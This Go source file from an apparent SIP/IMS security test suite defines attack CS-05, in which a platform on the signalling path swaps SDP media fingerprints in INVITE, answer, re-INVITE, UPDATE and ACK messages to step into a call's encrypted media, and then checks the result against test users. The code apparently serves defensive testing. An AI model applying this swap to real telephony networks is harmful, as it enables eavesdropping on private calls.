package attack

import (
	"context"
	"errors"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// fingerprintSwap: a service platform in the path puts its own media keys into a call of others.
func fingerprintSwap() Attack {
	controls := []secure.ControlID{secure.CSIntegrityFingerprint}
	return Attack{
		ID: "cs.sdp.fingerprint-swap", Number: "CS-05", Title: "a service platform in the path replaces the fingerprint of a call's media",
		Text:     "media keys are as good as the fingerprint they are checked by: who may change it hears the call of two people who believe that nobody does",
		Services: []Service{Integrity, Confidentiality}, Stride: Tampering, Threats: []Threat{Disclosure, Corruption}, Module: ServicesUser,
		Source: "RFC 5763 7.1; RFC 8225 5.2.2", Access: []Access{ISC},
		Approved: []Approved{{Name: taker, Manifest: rights("session.proxy", "session.answer") + asked("terminating", 10, "continue")}},
		Bounds:   Bounds{Packets: 60, Bytes: 80_000, Conns: 3, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "offer", Position: EnrolledPlatform, Controls: controls, Run: swapOffer},
			{Name: "answer", Position: EnrolledPlatform, Controls: controls, Run: swapAnswer},
			{Name: "fifth", Position: EnrolledPlatform, Controls: controls, Run: swapFifth},
			{Name: "added", Position: EnrolledPlatform, Controls: controls, Run: addsMedia},
			{Name: "in-dialog", Position: EnrolledPlatform, Controls: controls, Run: swapWithin},
			{Name: "update", Position: EnrolledPlatform, Controls: controls, Run: swapInUpdate},
			{Name: "ack", Position: EnrolledPlatform, Controls: controls, Run: swapInACK},
		},
	}
}

// taker is a platform that may take calls to carol, and has no right to media.
const taker = "taker"

// The media keys of honest users, at first and later, and of the platform.
const (
	laterKey    = "11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:03"
	honestKey   = "11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:01"
	platformKey = "11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:02"
)

// keyed is a session description with media keys.
func keyed(key string) string {
	return "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 UDP/TLS/RTP/SAVP 8\r\na=rtpmap:8 PCMA/8000\r\n" +
		"a=setup:actpass\r\na=fingerprint:sha-256 " + key + "\r\n"
}

// callsKeyed is an INVITE to whom, with media keys.
func (h *Hand) callsKeyed(whom, callID string) string {
	return h.Text(h.callKeyed(whom, callID))
}

// callKeyed is what it says.
func (h *Hand) callKeyed(whom, callID string) Request {
	return Request{Method: "INVITE", URI: whom, CallID: callID, Lines: []string{"Contact: " + h.Contact(), "Content-Type: application/sdp"}, Body: keyed(honestKey)}
}

// answersKeyed answers an INVITE with 200 and media keys.
func (h *Hand) answersKeyed(m *sip.Message, key, contact string) error {
	return h.answersDescribed(m, keyed(key), contact)
}

// answersDescribed answers an INVITE with 200 and a session description.
func (h *Hand) answersDescribed(m *sip.Message, description, contact string) error {
	return h.describes(m, 200, description, contact)
}

// describes answers with a session description and further header lines.
func (h *Hand) describes(m *sip.Message, status int, description, contact string, lines ...string) error {
	r := h.pool.NewResponse(m, status, "")
	r.SetToTag(h.tag)
	for _, line := range lines {
		name, value, _ := strings.Cut(line, ": ")
		r.AppendName(name, []byte(value))
	}
	for v := range m.Values(sip.HdrRecordRoute) {
		r.Append(sip.HdrRecordRoute, v)
	}
	r.SetString(sip.HdrContact, contact)
	r.SetBody("application/sdp", []byte(description))
	text := string(r.AppendTo(nil))
	r.Release()
	return h.Write(text)
}

// swap puts the platform's key in the place of another's.
func swap(m *sip.Message) {
	if strings.Contains(string(m.Body()), honestKey) {
		m.SetBody("application/sdp", []byte(strings.ReplaceAll(string(m.Body()), honestKey, platformKey)))
	}
}

// between puts the platform between two honest users, of whom dave calls carol, before either has said anything.
func (f *Field) between(ctx context.Context, with func(*Server)) (dave, carol *Hand, s *Server, err error) {
	if dave, carol, err = f.callerAndCallee(ctx); err != nil {
		return
	}
	s, err = f.server(ctx, f.attacker, taker, with)
	return
}

// swapOffer: what carol reads of dave's keys is the platform's.
func swapOffer(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if m.Method() == sip.INVITE {
				swap(m)
			}
		}
	})
	if err != nil {
		return err
	}
	carol.answers.Store(false) // she answers with keys of her own
	callID := f.token()
	var answer *sip.Message
	status := 0
	asked := make(chan error, 1)
	go func() {
		var err error
		if answer, err = dave.Ask(ctx, dave.callsKeyed(carol.IMPU, callID)); err == nil {
			status = answer.Status()
		}
		asked <- err
	}()
	read := 0
	_ = within(ctx, soon, func(ctx context.Context) error {
		m, err := carol.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && string(m.Get(sip.HdrCallID)) == callID && m.Method() == sip.INVITE
		})
		if err != nil {
			return err
		}
		defer m.Release()
		if strings.Contains(string(m.Body()), platformKey) {
			read = 1
		}
		return carol.answersKeyed(m, honestKey, carol.Contact())
	})
	if err := <-asked; err != nil {
		return err
	}
	o.Arrived("the platform changes the keys of %d call to carol", len(s.Seen("INVITE")))
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's keys in %d of 1 call", read)
	o.Wire(status == 200, "dave, who calls her, is answered %d", status)
	return nil
}

// swapAnswer: what dave reads of carol's keys is the platform's.
func swapAnswer(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) {
		s.EditAnswer = swap
	})
	if err != nil {
		return err
	}
	carol.answers.Store(false) // she answers with keys of her own
	callID := f.token()
	picksUp := make(chan error, 1)
	go func() {
		m, err := carol.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && string(m.Get(sip.HdrCallID)) == callID && m.Method() == sip.INVITE
		})
		if err == nil {
			defer m.Release()
			err = carol.answersKeyed(m, honestKey, carol.Contact())
		}
		picksUp <- err
	}()
	answer, err := dave.Ask(ctx, dave.callsKeyed(carol.IMPU, callID))
	if err != nil {
		return err
	}
	if err := <-picksUp; err != nil {
		return err
	}
	o.Arrived("the platform passes %d call on; dave is answered %d", len(s.Seen("INVITE")), answer.Status())
	read := strings.Contains(string(answer.Body()), platformKey)
	if read {
		o.Users = 1
	}
	o.Peer(read, "dave reads the platform's keys as carol's: %v", read)
	o.Wire(answer.Status() == 200, "the call stands for dave: he is answered %d", answer.Status())
	return nil
}

// swapWithin: the platform passes the call on as it is; when dave's telephone takes other keys, in a re-INVITE, carol reads the platform's.
func swapWithin(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if body := string(m.Body()); m.Method() == sip.INVITE {
				m.SetBody("application/sdp", []byte(strings.ReplaceAll(body, laterKey, platformKey)))
			}
		}
	})
	if err != nil {
		return err
	}
	carol.answers.Store(false) // she answers with keys of her own
	callID := f.token()
	read := 0
	picksUp := func() error {
		return within(ctx, soon, func(ctx context.Context) error {
			m, err := carol.Await(ctx, func(m *sip.Message) bool {
				return m.IsRequest() && string(m.Get(sip.HdrCallID)) == callID && m.Method() == sip.INVITE
			})
			if err != nil {
				return err
			}
			defer m.Release()
			if strings.Contains(string(m.Body()), platformKey) {
				read++
			}
			return carol.answersKeyed(m, honestKey, carol.Contact())
		})
	}
	answered := make(chan error, 1)
	go func() { answered <- picksUp() }()
	first, err := dave.Ask(ctx, dave.callsKeyed(carol.IMPU, callID))
	if err := errors.Join(err, <-answered); err != nil {
		return err
	}
	again, err := dave.offersAgain(first, carol.IMPU, keyed(laterKey))
	if err != nil {
		return err
	}
	go func() { answered <- picksUp() }()
	second, err := dave.Ask(ctx, again)
	if err != nil {
		return err
	}
	if err := <-answered; err != nil && !errors.Is(err, ErrSilence) {
		return err
	}
	o.Arrived("the platform passes %d requests on; dave is answered %d, and his other keys %d", len(s.Seen("INVITE")), first.Status(), second.Status())
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's keys as dave's in %d of 1 re-INVITE", read)
	o.Wire(second.Status() == 200, "dave, who takes other keys, is answered %d", second.Status())
	return nil
}

// swapFifth: dave offers five media. What carol reads of the last one's keys is the platform's.
func swapFifth(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) { s.Edit = swapOther })
	if err != nil {
		return err
	}
	const media = 5
	head, medium, _ := strings.Cut(keyed(honestKey), "m=")
	description := head + strings.Repeat("m="+medium, media-1) + "m=" + strings.ReplaceAll(medium, honestKey, laterKey)
	callID := f.token()
	answer, err := dave.Ask(ctx, dave.Text(Request{Method: "INVITE", URI: carol.IMPU, CallID: callID, Lines: []string{"Contact: " + dave.Contact(), "Content-Type: application/sdp"},
		Body: description}))
	if err != nil {
		return err
	}
	read := carol.reads(ctx, sip.INVITE, callID, platformKey)
	o.Arrived("the platform changes the keys of the last of %d media in %d call to carol; dave is answered %d", media, len(s.Seen("INVITE")), answer.Status())
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's keys in %d of 1 call", read)
	o.Wire(answer.Status() == 200, "dave, who calls her, is answered %d", answer.Status())
	return nil
}

// swapOther puts the platform's key in the place of those that dave takes later.
func swapOther(m *sip.Message) {
	if strings.Contains(string(m.Body()), laterKey) {
		m.SetBody("application/sdp", []byte(strings.ReplaceAll(string(m.Body()), laterKey, platformKey)))
	}
}

// reads waits for a request of a call and says whether a key stands in it.
func (h *Hand) reads(ctx context.Context, method sip.Method, callID, key string) (read int) {
	_ = within(ctx, soon, func(ctx context.Context) error {
		m, err := h.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && m.Method() == method && string(m.Get(sip.HdrCallID)) == callID
		})
		if err == nil {
			read = strings.Count(string(m.Body()), key)
			m.Release()
		}
		return err
	})
	return read
}

// addsMedia: dave's telephone calls without media, so that carol's may offer some. What she reads is an offer of the platform's, with keys that nobody signs.
func addsMedia(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if m.Method() == sip.INVITE {
				m.SetBody("application/sdp", []byte(inlineKeyed))
			}
		}
	})
	if err != nil {
		return err
	}
	callID := f.token()
	answer, err := dave.Ask(ctx, dave.Text(Request{Method: "INVITE", URI: carol.IMPU, CallID: callID, Lines: []string{"Contact: " + dave.Contact()}}))
	if err != nil {
		return err
	}
	read := carol.reads(ctx, sip.INVITE, callID, inlineKey)
	o.Arrived("the platform puts media into %d call to carol; dave is answered %d", len(s.Seen("INVITE")), answer.Status())
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's offer as dave's in %d of 1 call", read)
	o.Wire(answer.Status() == 200, "dave, who calls her, is answered %d", answer.Status())
	return nil
}

// swapInUpdate: the platform passes the call on as it is; when dave's telephone takes other keys, in an UPDATE, carol reads the platform's.
func swapInUpdate(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) { s.Edit = swapOther })
	if err != nil {
		return err
	}
	inside, _, err := dave.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	inside.Method, inside.Body = "UPDATE", keyed(laterKey)
	inside.Lines = append(inside.Lines, "Contact: "+dave.Contact(), "Content-Type: application/sdp")
	answer, err := dave.Ask(ctx, dave.Text(inside))
	if err != nil {
		return err
	}
	read := carol.reads(ctx, sip.UPDATE, inside.CallID, platformKey)
	o.Arrived("the platform passes %d UPDATE on; dave is answered %d", len(s.Seen("UPDATE")), answer.Status())
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's keys as dave's in %d of 1 UPDATE", read)
	o.Wire(answer.Status() == 200, "dave, who takes other keys, is answered %d", answer.Status())
	return nil
}

// swapInACK: dave's telephone calls without media, so that carol's offers some; what carol reads in the ACK of dave's keys is the platform's.
func swapInACK(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, s, err := f.between(ctx, func(s *Server) { s.Edit = swapOther })
	if err != nil {
		return err
	}
	carol.answers.Store(false)
	callID := f.token()
	if err := dave.Write(dave.Text(Request{Method: "INVITE", URI: carol.IMPU, CallID: callID, Lines: []string{"Contact: " + dave.Contact()}})); err != nil {
		return err
	}
	cseq := dave.number
	invite, err := carol.Await(ctx, func(m *sip.Message) bool {
		return m.IsRequest() && m.Method() == sip.INVITE && string(m.Get(sip.HdrCallID)) == callID
	})
	if err != nil {
		return err
	}
	defer invite.Release()
	if err := carol.answersKeyed(invite, honestKey, carol.Contact()); err != nil {
		return err
	}
	answer, err := dave.Await(ctx, isFinal)
	if err != nil {
		return err
	}
	ack, err := insideOf(answer, carol.IMPU)
	if err != nil {
		return err
	}
	ack.Method, ack.CSeq, ack.Body = "ACK", cseq, keyed(laterKey)
	ack.Lines = append(ack.Lines, "Content-Type: application/sdp")
	if err := dave.Write(dave.Text(ack)); err != nil {
		return err
	}
	read := carol.reads(ctx, sip.ACK, callID, platformKey)
	o.Arrived("carol's offer is answered in an ACK, which the platform passes on: %d", len(s.Seen("ACK")))
	o.Users = read
	o.Peer(read > 0, "carol reads the platform's keys as dave's in %d of 1 ACK", read)
	o.Wire(read > 0, "dave is answered %d, and the platform is an end of his media: %v", answer.Status(), read > 0)
	return nil
}

// offersAgain acknowledges the answer to a call and returns a re-INVITE with another description.
func (h *Hand) offersAgain(answer *sip.Message, whom, description string) (string, error) {
	r, err := h.acknowledges(answer, whom)
	if err != nil {
		return "", err
	}
	r.Method, r.Body = "INVITE", description
	r.Lines = append(r.Lines, "Contact: "+h.Contact(), "Content-Type: application/sdp")
	return h.Text(r), nil
}
